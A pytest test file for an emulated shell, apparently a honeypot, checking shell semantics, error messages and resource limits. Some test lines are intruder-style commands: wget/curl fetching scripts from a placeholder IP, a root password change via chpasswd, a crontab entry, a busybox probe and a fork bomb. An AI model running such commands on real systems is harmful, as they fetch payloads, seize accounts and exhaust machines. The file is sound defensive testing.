import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samovar.shell import Files, Output, login_shell
from samovar.shell.shell import MAX_OUTPUT
from tests.personas import NOW, persona


def run(line: str | bytes, stdin: bytes | None = b"") -> Output:
    raw = line.encode() if isinstance(line, str) else line
    return login_shell(persona(), Files(persona()), "root", "198.51.100.7").run(raw, float(NOW), stdin)


def stdout(output: Output) -> bytes:
    return b"".join(data for fd, data in output.written if fd == 1)


def stderr(output: Output) -> bytes:
    return b"".join(data for fd, data in output.written if fd == 2)


@pytest.mark.parametrize(
    ("line", "out", "status"),
    [
        ("uname -s -m", b"Linux x86_64\n", 0),
        ("whoami; pwd", b"root\n/root\n", 0),
        ("echo -e '\\x67\\x61y'", b"gay\n", 0),
        ("echo -n a; echo b", b"ab\n", 0),
        ("true && echo t || echo f; false && echo t || echo f", b"t\nf\n", 0),
        ("nosuchcmd; echo $?", b"127\n", 0),
        ("x=$(uname -m); echo \"arch=$x\" '$x'", b"arch=x86_64 $x\n", 0),
        ("for i in 1 2 3; do echo $i; done", b"1\n2\n3\n", 0),
        ("if false; then echo a; else echo b; fi", b"b\n", 0),
        ("cat /proc/cpuinfo | grep name | wc -l", b"2\n", 0),
        ("echo ${HOME:-none} ${FOO:-bar}", b"/root bar\n", 0),
        ("echo hi > /tmp/.x; cat /tmp/.x; rm -f /tmp/.x; ls /tmp/.x", b"hi\n", 2),
        (">/tmp/.ptmx && cd /tmp/ && pwd", b"/tmp\n", 0),
        ("echo err 1>&2 2>/dev/null", b"", 0),
        ("cat <<EOF\nline $HOME\nEOF", b"line /root\n", 0),
        ("dd bs=52 count=1 if=/bin/ls 2>/dev/null | wc -c", b"52\n", 0),
        ("(cd /tmp; echo a) | tail -1", b"a\n", 0),
        ("exit 7", b"", 7),
        ("sh -c 'echo a; false'", b"a\n", 1),
        ("(exit 3); echo $?; x=$(exit 4); echo $?", b"3\n4\n", 0),
        ("echo $((1+2*3)) $(( (1<<4) - 0x10 )) $((2**10%1000)) $((-7/2))", b"7 0 24 -3\n", 0),
        ("i=3; echo $((i*i)); echo $((1/0)); echo on", b"9\non\n", 0),
        ("cd /tmp; touch b.sh a.sh .c.sh; echo *.sh '*.sh' \\*.sh; echo *.none", b"a.sh b.sh *.sh *.sh\n*.none\n", 0),
        ("ls /proc/c*info /bin/ec[h]o", b"/proc/cpuinfo\n/bin/echo\n", 0),
        ("case $(uname -m) in i?86) echo 32;; x86_64|amd64) echo 64;; *) echo no;; esac", b"64\n", 0),
        ("case x in y) echo;; esac; echo $?", b"0\n", 0),
        ("printf 'a 1\\nb 2\\n' | while read n v; do echo $v$n; done", b"1a\n2b\n", 0),
        ('f() { echo "$1-$#"; return 5; }; f a b; echo $?', b"a-2\n5\n", 0),
        ("for i in 1 2 3 4; do [ $i = 2 ] && continue; [ $i -gt 3 ] && break; echo $i; done", b"1\n3\n", 0),
        ("x='  a  b '; set; echo 1$x.2 \"$x\"", b"1 a b .2   a  b \n", 0),
        ("p=/a/b.tgz; echo ${p##*/} ${p%.*} ${#p} ${q:-d} ${p:+y}", b"b.tgz /a/b 8 d y\n", 0),
        ("echo a:b:c | cut -d: -f2,3 | tr a-z A-Z", b"B:C\n", 0),
        ("printf '3\\n1\\n3\\n' | sort -n | uniq -c", b"      1 1\n      2 3\n", 0),
        ("df -h | awk 'FNR == 2 {print $1;}'", b"udev\n", 0),
        ("echo 'a b c' | awk '{print $3,$1}'; echo a.b | awk -F. '{print $NF}'", b"c a\nb\n", 0),
        ("echo aXbX | sed 's/X/-/g'; printf '1\\n2\\n3\\n' | sed -n 2p", b"a-b-\n2\n", 0),
        ("echo -n abc | md5sum", b"900150983cd24fb0d6963f7d28e17f72  -\n", 0),
        ("echo aGk= | base64 -d; echo hi | base64", b"hiaGkK\n", 0),
        ("echo '* * * * * x' | crontab -; crontab -l", b"* * * * * x\n", 0),
        ("echo 'root:x' | chpasswd && echo ok", b"ok\n", 0),
        ("echo 'echo $1' > /tmp/s; chmod +x /tmp/s; sh /tmp/s q; . /tmp/s", b"q\n\n", 0),
        ("printf '#!/bin/sh\\necho ran\\n' > /tmp/r; chmod 777 /tmp/r; /tmp/r; cd /tmp; ./r", b"ran\nran\n", 0),
        ("seq 2 4 | xargs echo n; date +%s", b"n 2 3 4\n%d\n" % NOW, 0),
        ("mkdir -p /tmp/d/e; cd /tmp/d/e && pwd; mkdir /no/such", b"/tmp/d/e\n", 1),
        ('echo $\'a\\tb\'; echo "a$(echo "b c")"', b"a\tb\nab c\n", 0),
        ("grep -c processor /proc/cpuinfo; grep -E 'nope|^model name' /proc/cpuinfo | wc -l", b"2\n2\n", 0),
        ("exit 3 | true; echo still", b"still\n", 0),
        ("if [ ! -f /etc/none ] && test -d /etc -a -n x; then echo y; fi", b"y\n", 0),
        ("ls -l /bin/ls /bin | head -1 | cut -c1-10; which ls nope", b"-rwxr-xr-x\n/usr/bin/ls\n", 1),
    ],
)
def test_lines(line: str, out: bytes, status: int) -> None:
    output = run(line)
    assert (stdout(output), output.status) == (out, status)


def test_words_of_error() -> None:
    assert stderr(run("nosuchcmd")) == b"-bash: nosuchcmd: command not found\n"
    assert stderr(run("/bin/busybox ECCHI")) == b"ECCHI: applet not found\n"
    assert stderr(run("cat /none")) == b"cat: /none: No such file or directory\n"
    assert stderr(run("echo a | | b")) == b"-bash: syntax error near unexpected token `|'\n"


def test_fetches_are_named_and_never_made() -> None:
    output = run("cd /tmp; wget http://198.51.100.9/x.sh || curl -O http://198.51.100.9/y.sh")
    assert output.urls == ("http://198.51.100.9/x.sh", "http://198.51.100.9/y.sh")


def test_unfinished_lines_and_input_are_asked_for() -> None:
    assert run("echo 'a").incomplete
    assert run("cat > /tmp/f", None).wants_input
    assert not run("cat > /tmp/f", b"data").wants_input


def test_written_files_are_artefacts_once() -> None:
    shell = login_shell(persona(), Files(persona()), "root", "198.51.100.7")
    shell.run(b"echo a > /tmp/f", float(NOW))
    assert [(keep.name, keep.data) for keep in shell.artefacts()] == [("/tmp/f", b"a\n")]
    assert list(shell.artefacts()) == []


@pytest.mark.parametrize(
    "line",
    [
        "while true; do echo x; done",
        "while true; do :; done",
        "a=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa; while true; do a=$a$a; done",
        "echo " + "$(" * 500 + ")" * 500,
        "( " * 500 + "id" + " )" * 500,
        "f=/tmp/f; echo 'sh /tmp/f' > $f; sh /tmp/f",
        "while true; do cat /proc/cpuinfo >> /tmp/x; done",
        "while :; do : $((" + "1+" * 3000 + "1)); done",
        "while :; do [ -f /x" + " -o -f /y" * 1500 + " ]; done",
        "while :; do seq 999999999 > /tmp/x; done",
        "while :; do md5sum /bin/* > /dev/null; done",
        "for i in $(seq 500); do : > /tmp/f$i; done; while :; do echo /tmp/*[0-9] /*/*; done",
        "a=aaaaaaaa; while :; do a=$a$a; b=${a##*a*a*a*b}; done",
        "f() { f | f; }; f",
        'echo "$(' * 300 + ')"' * 300,
    ],
)
def test_nothing_runs_for_ever(line: str) -> None:
    output = run(line)
    assert output.status in (137, 2)
    assert sum(len(data) for _, data in output.written) <= MAX_OUTPUT + 100


@settings(max_examples=300)
@given(st.text(alphabet="ab$(){}`'\"\\;|&<>\n #!=/-", max_size=40))
def test_any_line_is_answered(line: str) -> None:
    assert isinstance(run(line), Output)
